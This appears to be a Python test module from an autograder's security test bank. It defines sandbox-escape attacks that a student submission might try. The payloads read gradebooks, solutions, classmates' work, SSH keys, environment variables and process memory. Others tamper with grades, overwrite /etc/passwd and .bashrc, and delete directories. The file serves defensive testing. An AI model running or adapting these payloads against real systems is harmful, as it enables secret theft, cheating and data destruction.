"""For others' data: gradebook, sources, hidden draws, classmates, environment, /proc, memory."""

from __future__ import annotations

from tests.banks.attacks.attack import DATA, Attack, answering, with_code

# Prints whatever can be read of the paths, as text and as names.
_READER = """
import glob, os
def look(*patterns):
    for pattern in patterns:
        for path in [pattern, *glob.glob(pattern, recursive=True)]:
            try:
                if os.path.isdir(path):
                    print(path, os.listdir(path))
                else:
                    with open(path, "rb") as file:
                        print(path, file.read(3_000_000).decode("latin-1")[:20_000])
            except OSError as error:
                print(path, error.strerror)
"""

_GRADEBOOK = """
import sqlite3
try:
    book = sqlite3.connect("file:@CLASS@/gradebook.db?mode=ro", uri=True)
    for (table,) in book.execute("select name from sqlite_master where type='table'"):
        print(table, book.execute(f"select * from {table}").fetchall())
except Exception as error:
    print(error)
"""

_GRADEBOOK_WRITTEN = """
import sqlite3, glob
for path in ["@CLASS@/gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
    try:
        book = sqlite3.connect(path)
        book.execute("update grade set auto_score = 0, manual_score = 0, extra_credit = -100")
        book.execute("create trigger t after update on grade begin update grade set "
                     "extra_credit = 100; end")
        book.commit()
    except Exception as error:
        print(error)
"""

_OWN_MEMORY = """
import gc, re
for thing in gc.get_objects():
    try:
        inner = list(thing.values()) if type(thing) is dict else thing
        if type(inner) in (list, tuple, set):
            for text in inner:
                if type(text) in (str, bytes) and re.search("PLAN" "TED-[a-z]", str(text[:10**5])):
                    print("found in memory:", text[:10_000])
    except Exception:
        pass
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not match or int(match[2], 16) - int(match[1], 16) > 2**28: continue
            try:
                memory.seek(int(match[1], 16))
                data = memory.read(int(match[2], 16) - int(match[1], 16))
            except (OSError, ValueError, OverflowError):
                continue
            for found in re.findall(rb"PLAN" rb"TED-[a-z0-9-]{4,40}", data):
                print("found in memory:", found.decode())
except OSError as error:
    print(error)
"""

_OTHER_MEMORY = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
mine = os.getpid()
for pid in {os.getppid(), *(mine + k for k in range(-40, 41)), *range(1, 3000)} - {mine}:
    try:
        with open(f"/proc/{pid}/maps") as maps: print(pid, maps.readline())
        with open(f"/proc/{pid}/environ", "rb") as file: print(pid, file.read())
        with open(f"/proc/{pid}/cmdline", "rb") as file: print(pid, file.read())
    except OSError:
        pass
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("attached to", pid)
buffer = ctypes.create_string_buffer(4096)
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
mine, theirs = Vec(ctypes.addressof(buffer), 4096), Vec(0x400000, 4096)
for pid in (os.getppid(), 1):
    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        print(pid, buffer.raw)
"""

_ENVIRONMENT = """
import os, sys
print(dict(os.environ), sys.argv, sys.orig_argv)
for pid in ("self", os.getppid(), 1):
    for name in ("environ", "cmdline", "cgroup", "mountinfo", "root/proc/1/environ"):
        try:
            print(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError as error:
            print(error)
"""

_DRAWS = """
import gc, sys
for thing in gc.get_objects():
    try:
        if type(thing).__name__ in ("Draw", "Job", "Graded", "Verdict", "NotebookResult"):
            print("DRAW", vars(thing))
        elif type(thing) is dict and {"seed", "nonce"} & set(map(str, thing)):
            print("DRAW", {k: v for k, v in thing.items() if type(v) in (int, str)})
    except Exception:
        pass
"""

_LINKS = """
import os
for target in ("@CLASS@/gradebook.db", "@ROOT@/solutions/05_made/lesson.py",
               "/proc/1/root@HOME@/.secret"):
    for make in (os.symlink, os.link):
        try:
            make(target, f"link-{make.__name__}-{abs(hash(target))}")
        except OSError as error:
            print(error)
for name in os.listdir("."):
    try:
        print(name, open(name, "rb").read(10**6))
    except OSError as error:
        print(error)
"""

_IMPORTS = """
import sys
sys.path[:0] = ["@ROOT@", "@ROOT@/solutions/05_made", "@CLASS@"]
for name in ("solutions", "lesson", "tests.banks.right.made", "nbgrader_config",
             "autograder.grading.judge", "autograder.lessons"):
    try:
        module = __import__(name, fromlist=["x"])
        print(name, vars(module).keys())
        print(module.solution_functions("05_made")["build_masks"])
    except BaseException as error:
        print(name, type(error).__name__, error)
"""

_IN_ERRORS = """
def @NAME@(*args, **kwargs):
    found = ""
    for path in ("@CLASS@/submitted/vera/05_made/lesson.ipynb", "@HOME@/.secret",
                 "@ROOT@/solutions/05_made/lesson.py", "@CLASS@/gradebook.db"):
        try:
            found += open(path, "rb").read(200).decode("latin-1")
        except OSError:
            pass
    raise ValueError(found or "nothing to see")
"""

_AS_ANSWER = """
def _stolen(name):
    import json
    for path in ("@ROOT@/build/source/05_made/lesson.ipynb", "@ROOT@/source/05_made/lesson.ipynb",
                 "@CLASS@/submitted/vera/05_made/lesson.ipynb"):
        try:
            cells = json.load(open(path))["cells"]
        except (OSError, ValueError):
            continue
        for cell in cells:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == name:
                return "".join(cell["source"])
    return ""
exec(_stolen("@NAME@") or "def @NAME@(*a, **k): raise NotImplementedError")
"""

_WRITES = """
import glob, os, shutil
places = ["@CLASS@/submitted/vera/05_made/lesson.ipynb",
          "@CLASS@/autograded/vera/05_made/lesson.ipynb",
          "@CLASS@/records/05_made/vera.json", "@ROOT@/solutions/05_made/lesson.py",
          "@ROOT@/nbgrader_config.py", "@HOME@/.ipython/profile_default/startup/attackleft.py",
          "@HOME@/.bashrc", "/etc/passwd", os.__file__, "/tmp/attackleft", "/dev/shm/attackleft",
          "/var/tmp/attackleft"]
for path in places:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file: file.write("attackleft")
    except OSError as error:
        print(path, error.strerror)
for path in ("@CLASS@", "@ROOT@/solutions", "@HOME@"):
    shutil.rmtree(path, ignore_errors=True)
    try:
        os.rename(path, path + "-attackleft")
    except OSError as error:
        print(error)
"""

_DESCRIPTORS = """
import os, socket
for fd in range(0, 256):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"), os.fstat(fd).st_mode)
        print(os.pread(fd, 4096, 0))
    except OSError:
        pass
for fd in range(3, 256):
    try:
        here = socket.socket(fileno=os.dup(fd))
        print(here.getpeername(), here.getsockopt(1, 17, 12))
        here.setblocking(False)
        print(socket.recv_fds(here, 4096, 8))
    except OSError:
        pass
"""


def _look(*patterns: str) -> str:
    return f"{_READER}look{patterns!r}"


_READS = (
    ("gradebook", _GRADEBOOK),
    ("sources", _look("@ROOT@/*", "@ROOT@/solutions/**", "@ROOT@/build/**", "@ROOT@/source/**")),
    ("classmates", _look("@CLASS@/submitted/**", "@CLASS@/autograded/**", "../**", "/tmp/*")),
    ("home", _look("@HOME@/.secret", "@HOME@/**", "@HOME@/.ssh/*", "~", "/root/.secret")),
    ("everything", _look("/", "/*", "/home/*/.secret", "/**/.secret", "/**/gradebook.db")),
    ("environment", _ENVIRONMENT),
    ("own memory", _OWN_MEMORY),
    ("others' memory", _OTHER_MEMORY),
    ("draws and live objects", _DRAWS),
    ("links", _LINKS),
    ("imports of what lies near", _IMPORTS),
    ("descriptors", _DESCRIPTORS),
)  # fmt: skip

ATTACKS = (
    *(Attack(f"reads: {name}", DATA, with_code(text)) for name, text in _READS),
    Attack("reads: told in errors", DATA, answering(_IN_ERRORS)),
    Attack("solutions taken from where they lie", DATA, answering(_AS_ANSWER)),
    Attack("gradebook written", DATA, with_code(_GRADEBOOK_WRITTEN)),
    Attack("others' files written", DATA, with_code(_WRITES), harmless_to_nbgrader=False),
)
